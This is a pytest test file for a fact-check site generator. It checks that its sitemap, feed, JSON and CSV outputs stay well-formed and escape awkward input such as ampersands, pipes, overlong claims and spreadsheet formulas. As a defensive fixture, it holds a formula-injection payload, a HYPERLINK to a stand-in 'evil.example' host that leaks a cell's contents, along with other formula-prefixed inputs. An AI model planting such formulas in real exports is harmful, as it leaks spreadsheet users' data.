"""The machine-readable outputs of a real site with what newsrooms write and what they should not:
an address with `&` in its path, document titles copied from web pages ("Budget speech | GOV.UK"),
names with `|`, claims that start with a formula after spaces, and claims too long for their card.

One `factcheck init` site, built with each engine; every XML, JSON, JSON Lines and CSV file read by
its real parser, as search engines, feed readers and spreadsheets read them.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from PIL import Image

from generator.cli import main

URL = "https://facts.example.org/news&facts/"
SITEMAP = "{http://www.sitemaps.org/schemas/sitemap/0.9}"
ATOM = "{http://www.w3.org/2005/Atom}"
# A web page's title as a journalist copies it, and one that starts with the separator.
BUDGET = "Budget speech | GOV.UK"
RADIO = "| Radio 4 interview"
AUTHOR = "Ann | Data desk"
# Formulas a spreadsheet runs once it trims the spaces or line breaks before them.
SPACED = '  =HYPERLINK("https://evil.example/?"&A1,"Open")'
TITLE = "\u3000+1 more than last year"
SUMMARY = "\n@SUM(1+1) is what they said."
LONG = "The minister said " + "x" * 3000
LONG_RTL = "قال الوزير إن البطالة تضاعفت " * 60


def _write(path: Path, data: dict) -> None:
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")  # JSON is YAML


def _content(root: Path) -> None:
    content = root / "content"
    _write(content / "people" / "ann.yaml", {"name": AUTHOR, "kind": "person"})
    _write(content / "people" / "mo.yaml", {"name": "محمد & Co", "kind": "person"})
    for did, title in (("budget", BUDGET), ("radio", RADIO)):
        doc = {"title": title, "kind": "speech", "date": "2025-03-01"}
        _write(content / "documents" / f"{did}.yaml", {**doc, "url": f"https://gov.example/{did}"})
    claims = {
        "two-documents": {"claim": "Unemployment doubled.", "title": TITLE},
        "spaced": {"claim": SPACED},
        "long": {"claim": LONG},
        "long-rtl": {"claim": LONG_RTL, "language": "ar"},
    }
    for cid, fields in claims.items():
        claim = {"claimant": "mo", "date": "2025-03-01", "topics": ["economy"], **fields}
        said = "unemployment doubled"
        claim["appearances"] = [{"document": d, "quote": said} for d in ("budget", "radio")]
        _write(content / "claims" / f"{cid}.yaml", claim)
        verdict = {"claim": cid, "rating": "false", "summary": SUMMARY, "body": "See [@s]."}
        verdict |= {"authors": ["ann", "mo"], "published": "2025-04-02"}
        verdict["sources"] = [{"id": "s", "title": "Stats", "url": "https://stats.example.org/"}]
        _write(content / "verdicts" / f"{cid}.yaml", verdict)


def _build(root: Path, engine: str) -> Path:
    here = os.getcwd()
    os.chdir(root)
    try:
        args = ["build", "--content", "content", "--out", "site", "--no-search"]
        assert main([*args, "--engine", engine]) == 0
    finally:
        os.chdir(here)
    return root / "site"


@pytest.fixture(scope="module", params=["mkdocs", "zensical"])
def site(request, tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp(f"round5-{request.param}") / "repo"
    assert main(["init", str(root), "--name", "News & Facts", "--url", URL]) == 0
    _content(root)
    return _build(root, request.param)


@pytest.fixture(scope="module")
def mkdocs_site(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("round5-csv") / "repo"
    assert main(["init", str(root), "--name", "News & Facts", "--url", URL]) == 0
    _content(root)
    return _build(root, "mkdocs")


def _outputs(site: Path) -> dict[str, bytes]:
    """Every machine-readable file by site path (a .gz one as its contents, under both names)."""
    out = {}
    for path in sorted(site.rglob("*")):
        rel = path.relative_to(site).as_posix()
        if not path.is_file() or rel.startswith(("assets/", "pagefind/")):
            continue
        data = path.read_bytes()
        if rel.endswith(".gz"):
            data = gzip.decompress(data)
        if rel.endswith((".xml", ".json", ".csv", ".jsonl", ".xml.gz", ".jsonl.gz", ".csv.gz")):
            out[rel] = data
    return out


def test_every_machine_readable_file_parses_with_an_ampersand_in_the_sites_address(site):
    """Zensical wrote `<loc>https://facts.example.org/news&facts/</loc>`: no XML reader could
    read sitemap.xml (nor its .gz), and search engines took none of the site's addresses."""
    files = _outputs(site)
    assert {"sitemap.xml", "sitemap.xml.gz", "feed.xml", "data/claims.csv"} <= set(files)
    for rel, data in files.items():
        if ".xml" in rel:
            ET.fromstring(data)  # raises on a document that is not well-formed
        elif ".jsonl" in rel:
            [json.loads(line) for line in data.decode("utf-8").splitlines()]
        elif ".json" in rel:
            json.loads(data)
        else:
            list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    locs = [e.text for e in ET.fromstring(files["sitemap.xml"]).iter(f"{SITEMAP}loc")]
    assert URL in locs and f"{URL}claims/spaced/" in locs  # the address as typed, once escaped
    feed = ET.fromstring(files["feed.xml"])
    assert feed.find(f"{ATOM}id").text == f"{URL}feed.xml"


def _rows(site: Path) -> dict[str, dict[str, str]]:
    text = (site / "data" / "claims.csv").read_text(encoding="utf-8")
    return {r["id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}


def test_a_list_cell_splits_into_as_many_values_as_its_ids(mkdocs_site):
    """A document titled "Budget speech | GOV.UK" gave two titles where claims.csv had one id,
    and the title after it was paired with the wrong document."""
    row = _rows(mkdocs_site)["two-documents"]
    ids = row["document_ids"].split(" | ")
    titles = row["document_titles"].removeprefix("'").split(" | ")
    assert ids == ["budget", "radio"]
    assert titles == ["Budget speech \u00a6 GOV.UK", "\u00a6 Radio 4 interview"]
    assert row["author_ids"].split(" | ") == ["ann", "mo"]
    assert row["author_names"].split(" | ") == ["Ann \u00a6 Data desk", "محمد & Co"]
    # claims.json keeps the exact text
    data = json.loads((mkdocs_site / "data" / "claims.json").read_text(encoding="utf-8"))
    record = next(c for c in data["claims"] if c["id"] == "two-documents")
    assert [d["title"] for d in record["documents"]] == [BUDGET, RADIO]
    assert record["authors"][0]["name"] == AUTHOR


def test_a_formula_after_spaces_or_a_line_break_is_defused_too(mkdocs_site):
    """A spreadsheet that trims what comes before a formula (LibreOffice's "Trim spaces", Google
    Sheets) ran `  =HYPERLINK(...)`: only a cell starting with `=` itself had its apostrophe."""
    rows = _rows(mkdocs_site)
    assert rows["spaced"]["claim"] == "'" + SPACED
    assert rows["two-documents"]["title"] == "'" + TITLE
    assert rows["two-documents"]["summary"] == "'" + SUMMARY
    assert rows["long"]["claim"] == LONG  # a cell without a formula is left as written
    for row in rows.values():
        for column, cell in row.items():
            assert not cell.lstrip(" \n\u3000").startswith(("=", "+", "@")), (column, cell)


def _inked(png: Path, box: tuple[int, int, int, int]) -> bool:
    """Whether anything dark is drawn in that part of the image (the text is #111 on white)."""
    with Image.open(png) as image:
        return image.convert("L").crop(box).getextrema()[0] < 128


CLAIM_ROWS = (20, 400)  # below the colour bar, above the badge


def test_the_ellipsis_of_a_cut_claim_stays_inside_the_cards_margins(mkdocs_site):
    """A claim too long for its card ended in “…” added past a full line: it ran into the card's
    right margin (its left one in Arabic)."""
    top, bottom = CLAIM_ROWS
    latin = mkdocs_site / "claims" / "long" / "og.png"
    assert _inked(latin, (64, top, 1136, bottom))  # the claim is drawn
    assert not _inked(latin, (1137, top, 1200, bottom))
    arabic = mkdocs_site / "claims" / "long-rtl" / "og.png"
    assert _inked(arabic, (64, top, 1136, bottom))
    assert not _inked(arabic, (0, top, 63, bottom))
